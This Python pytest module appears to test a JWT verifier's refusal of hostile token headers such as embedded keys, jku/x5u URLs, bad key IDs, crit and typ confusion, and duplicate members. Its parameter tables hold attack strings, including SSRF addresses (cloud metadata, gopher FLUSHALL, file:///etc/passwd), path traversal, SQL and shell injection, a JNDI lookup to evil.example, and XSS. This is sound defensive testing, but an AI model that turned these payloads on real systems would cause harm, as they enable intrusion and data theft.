"""What a token's header must not say: RFC 7515 section 4, RFC 8725."""

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.minting import claims, header, public_jwk, signer
from tests.refusals.conftest import Door, bearer
from tests.refusals.forging import NO_OBJECT, forged, head, headed, rows
from tests.refusals.keyring import (
    BOTH_ISSUERS,
    LARGE_EC,
    LOOSE,
    OKP,
    STRICT,
    UNFIT,
    main_signer,
)

EMBEDDED: dict[str, dict[str, Any]] = {
    "a stranger's key": {"jwk": public_jwk(UNFIT)},
    "the issuer's own key": {"jwk": public_jwk(OKP)},
    "a private key": {"jwk": dict(UNFIT.as_dict(private=True))},
    "a secret": {"jwk": {"kty": "oct", "k": "c2VjcmV0"}},
    "an empty key": {"jwk": {}},
    "a key that is no object": {"jwk": "key"},
    "a key that is null": {"jwk": None},
    "a certificate": {"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]},
    "no certificates": {"x5c": []},
    "a certificate that is no list": {"x5c": "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"},
    "a certificate that is null": {"x5c": None},
    "a key and a certificate": {"jwk": public_jwk(UNFIT), "x5c": ["MIIB"]},
}  # fmt: skip


@rows("members", EMBEDDED)
async def test_a_token_cannot_bring_its_own_key(door: Door, members: dict[str, Any]) -> None:
    by_itself = forged(head(**members), by=signer("Ed25519", UNFIT))

    await door.refuses_token(by_itself, reason="malformed")
    await door.refuses_token(headed(**members), reason="malformed")


ADDRESSES: dict[str, Any] = {
    "a stranger's": "https://evil.example/keys", "the issuer's own": STRICT + ".well-known/jwks.json",
    "the issuer's by another's name": "https://issuer.example@evil.example/",
    "this machine's": "http://127.0.0.1:3012/jwks/refresh", "the cloud's": "http://169.254.169.254/latest/meta-data/",
    "a file's": "file:///etc/passwd", "gopher's": "gopher://127.0.0.1:6379/_FLUSHALL", "data": "data:application/json,{}",
    "empty": "", "null": None, "a list": ["https://evil.example/keys"], "a number": 5,
}  # fmt: skip


@rows("address", ADDRESSES)
async def test_a_token_cannot_say_where_its_key_is(door: Door, address: Any) -> None:
    for member in ("jku", "x5u"):
        await door.refuses_token(headed(**{member: address}), reason="malformed")


UNFIT_KEY_IDS: dict[str, Any] = {
    "a line feed": "OKP-main\n", "a forged log line": 'x\r\n{"event":"request"}', "NUL": "OKP-main\x00",
    "a terminal's escape": "\x1b[2J\x1b[31mx", "a C1 control": "\x9b31m", "DEL": "\x7f", "a line separator": "a\u2028b",
    "a right-to-left override": "\u202ex", "a zero-width space": "OKP-main\u200b", "a private character": "\ue000",
    "a lone surrogate": "\ud800", "surrogates in the wrong order": "\udc00\ud800", "257 characters": "k" * 257,
    "4,000 characters": "k" * 4000, "null": None, "a number": 5, "zero": 0, "true": True, "a list": ["OKP-main"],
    "an object": {"kid": "OKP-main"},
}  # fmt: skip


@rows("key_id", UNFIT_KEY_IDS)
async def test_a_key_id_that_is_no_name_is_malformed(door: Door, key_id: Any) -> None:
    await door.refuses_token(headed(kid=key_id), reason="malformed")


UNKNOWN_KEY_IDS = {
    "a path": "../../../../../../etc/passwd", "a device": "/dev/null", "an encoded path": "..%2f..%2fkeys",
    "SQL": "x' UNION SELECT 'key' -- ", "a shell's": "|| sleep 10 #", "a shell's substitution": "$(id)`id`",
    "an address": "https://evil.example/keys", "a template": "{{7*7}}${7*7}%n%s", "JNDI": "${jndi:ldap://evil.example/a}",
    "markup": "<script>alert(1)</script>", "quotes": "\"'\\", "letters that are not ASCII": "sch\u00f6n\u6f22\U0001f511",
    "another case": "okp-MAIN", "a space behind": "OKP-main ", "a prefix": "OKP-mai", "empty": "", "a pattern": "OKP-*",
    "256 characters": "k" * 256, "256 characters that are escaped": "\u6f22" * 256,
}  # fmt: skip


@rows("key_id", UNKNOWN_KEY_IDS)
async def test_a_key_id_that_no_key_has_is_unknown_and_escaped_and_cut_in_the_log(
    door: Door, key_id: str
) -> None:
    await door.refuses_token(headed(kid=key_id), reason="unknown_key")

    line = next(each for each in door.log if each.get("auth.reason") == "unknown_key")
    assert line["auth.kid"] == ascii(key_id)[1:-1][:64]


async def test_unknown_keys_cannot_make_us_ask_without_end(door: Door) -> None:
    asked = door.questions

    for number in range(20):
        await door.refuses_token(headed(kid=f"invented-{number}"), reason="unknown_key")

    assert door.questions - asked <= 2


@rows(
    "compact",
    {
        "ES256": forged(header(alg="ES256", kid=...), by=main_signer("ES256")),
        "ES384": forged(header(alg="ES384", kid=...), by=signer("ES384", LARGE_EC)),
    },
)
async def test_without_a_key_id_the_one_key_that_fits_is_taken(door: Door, compact: str) -> None:
    await door.admits(bearer(compact))


@pytest.mark.parametrize("algorithm", ["RS256", "PS256", "Ed25519", "EdDSA"])
async def test_without_a_key_id_several_keys_that_fit_are_none(door: Door, algorithm: str) -> None:
    compact = forged(header(alg=algorithm, kid=...), by=main_signer(algorithm))
    asked = door.questions

    await door.refuses_token(compact, reason="unknown_key")

    assert door.questions == asked


EXTENSIONS: dict[str, Any] = {
    "a claim": ["exp"], "what we know": ["alg"], "unencoded payload": ["b64"], "itself": ["crit"],
    "a name that is not there": ["nobody"], "several": ["exp", "b64", "http://vendor.example/x"],
    "the same twice": ["exp", "exp"], "none": [], "numbers": [5], "null in a list": [None], "lists": [["exp"]],
    "a string": "exp", "an empty string": "", "a number": 5, "zero": 0, "true": True, "false": False,
    "an object": {"exp": True}, "null": None,
}  # fmt: skip


@rows("critical", EXTENSIONS)
async def test_what_a_token_calls_critical_we_do_not_understand(door: Door, critical: Any) -> None:
    await door.refuses_token(headed(crit=critical, b64=...), reason="malformed")


OTHER_PAYLOADS: dict[str, dict[str, Any]] = {
    "an unencoded payload": {"b64": False}, "an encoded payload that says so": {"b64": True},
    "b64 that is null": {"b64": None}, "b64 that is text": {"b64": "false"},
    "an unencoded payload, critically": {"b64": False, "crit": ["b64"]}, "a packed payload": {"zip": "DEF"},
    "a packed payload by an unknown way": {"zip": "GZIP"}, "zip that is null": {"zip": None},
    "zip that is empty": {"zip": ""}, "a nested token": {"cty": "JWT"}, "a nested token in lower case": {"cty": "jwt"},
    "a nested token by its whole type": {"cty": "application/jwt"}, "a nested access token": {"cty": "at+jwt"},
}  # fmt: skip


@rows("members", OTHER_PAYLOADS)
async def test_a_payload_that_is_said_to_be_something_else_is_malformed(
    door: Door, members: dict[str, Any]
) -> None:
    await door.refuses_token(headed(**members), reason="malformed")


NESTED = {
    "a token": forged().encode(),
    "a token in a string": json.dumps(forged()).encode(),
    "a token in a list": json.dumps([forged()]).encode(),
    "a token in a token": forged(payload=forged().encode()).encode(),
}


@rows("payload", NESTED)
async def test_a_token_in_a_token_is_malformed_though_nothing_announces_it(
    door: Door, payload: bytes
) -> None:
    await door.refuses_token(forged(payload=payload), reason="malformed")


def typed(type_: Any, issuer: str) -> str:
    payload = claims(iss=issuer)
    return forged(head(typ=type_), payload, by=main_signer("Ed25519", of=issuer))


FOREIGN_TYPES: dict[str, Any] = {
    "a DPoP proof": "dpop+jwt", "a logout token": "logout+jwt", "an ID token": "id+jwt", "a security event": "secevent+jwt",
    "an introspection answer": "token-introspection+jwt", "an authorization request": "oauth-authz-req+jwt",
    "a key binding": "kb+jwt", "a refresh token": "rt+jwt", "a JWS": "JOSE", "a JWS in JSON": "JOSE+JSON", "empty": "",
    "a space behind": "at+jwt ", "a space before": " at+jwt", "a parameter": "at+jwt; v=1", "another prefix": "text/at+jwt",
    "the prefix twice": "application/application/at+jwt", "a prefix of it": "at", "a dotless i": "app\u0131ication/at+jwt",
    "a Kelvin sign": "at+\u212awt", "full-width letters": "\uff41\uff54+jwt", "null": None, "a number": 5, "true": True,
    "false": False, "a list": ["at+jwt"], "an object": {"at+jwt": 1},
}  # fmt: skip


@rows("type_", FOREIGN_TYPES)
async def test_another_type_of_token_is_the_wrong_one(door: Door, type_: Any) -> None:
    for issuer in BOTH_ISSUERS:
        await door.refuses_token(typed(type_, issuer), reason="wrong_type")


ANY_JWT: dict[str, Any] = {
    "JWT": "JWT", "jwt": "jwt", "with the prefix": "application/jwt", "none": ...,
}  # fmt: skip


@rows("type_", ANY_JWT)
async def test_a_token_of_no_particular_type_is_good_for_one_profile_only(
    door: Door, type_: Any
) -> None:
    await door.admits(bearer(typed(type_, LOOSE)))
    await door.refuses_token(typed(type_, STRICT), reason="wrong_type")


@pytest.mark.parametrize(
    "type_", ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+jwt"]
)
async def test_an_access_token_says_what_it_is_in_any_case(door: Door, type_: str) -> None:
    for issuer in BOTH_ISSUERS:
        await door.admits(bearer(typed(type_, issuer)))


def _more(text: str, *, first: bool = False) -> Callable[[bytes], bytes]:
    more = text.encode()
    return lambda raw: b"{" + more + b"," + raw[1:] if first else raw[:-1] + b"," + more + b"}"


TWICE = {
    "the algorithm, none behind": _more('"alg":"none"'),
    "the algorithm, none before": _more('"alg":"none"', first=True),
    "the algorithm, the same": _more('"alg":"Ed25519"'),
    "the algorithm, escaped": _more(r'"\u0061lg":"HS256"'),
    "the algorithm, escaped and before": _more(r'"al\u0067":"HS256"', first=True),
    "the key ID behind": _more('"kid":"other"'),
    "the key ID before": _more('"kid":"other"', first=True),
    "the key ID, null": _more('"kid":null'),
    "the type behind": _more('"typ":"JWT"'),
    "the type before": _more('"typ":"JWT"', first=True),
    "the type three times": _more('"typ":"JWT","typ":"JWT"'),
    "what nobody reads": _more('"x":1,"x":1'),
    "the empty name": _more('"":1,"":1'),
    "in an object within": _more('"x":{"y":1,"y":2}'),
    "in an object within a list": _more('"x":[{"y":1,"y":2}]'),
}


@rows("change", TWICE)
async def test_a_header_with_a_member_twice_is_malformed(
    door: Door, change: Callable[[bytes], bytes]
) -> None:
    raw = change(json.dumps(head()).encode())

    await door.refuses_token(forged(raw), reason="malformed")


@rows("change", NO_OBJECT)
async def test_a_header_that_is_no_json_object_is_malformed(
    door: Door, change: Callable[[bytes], bytes]
) -> None:
    raw = change(json.dumps(head()).encode())

    await door.refuses_token(forged(raw), reason="malformed")


UNKNOWN_MEMBERS: dict[str, dict[str, Any]] = {
    "a nonce": {"nonce": "n"},
    "a vendor's field": {"https://vendor.example/x": {"y": [1, None, True]}},
    "thumbprints": {"x5t": "abc", "x5t#S256": "def"},
    "a claim": {"iss": "https://evil.example/", "exp": 1, "aud": 5},
    "a prototype": {"__proto__": {"alg": "none"}, "constructor": "x"},
    "another case of one that is refused": {"CRIT": ["x"], "Jwk": {}},
    "letters that are not ASCII": {"\u00e9": "\U0001f511"},
    "thirty levels": {"x": json.loads("[" * 30 + "]" * 30)},
    "parameters of an encryption": {"p2c": 2**31 - 1, "p2s": "x", "epk": {}, "apu": "x"},
}


@rows("members", UNKNOWN_MEMBERS)
async def test_members_that_nobody_knows_are_ignored(door: Door, members: dict[str, Any]) -> None:
    await door.admits(bearer(headed(**members)))
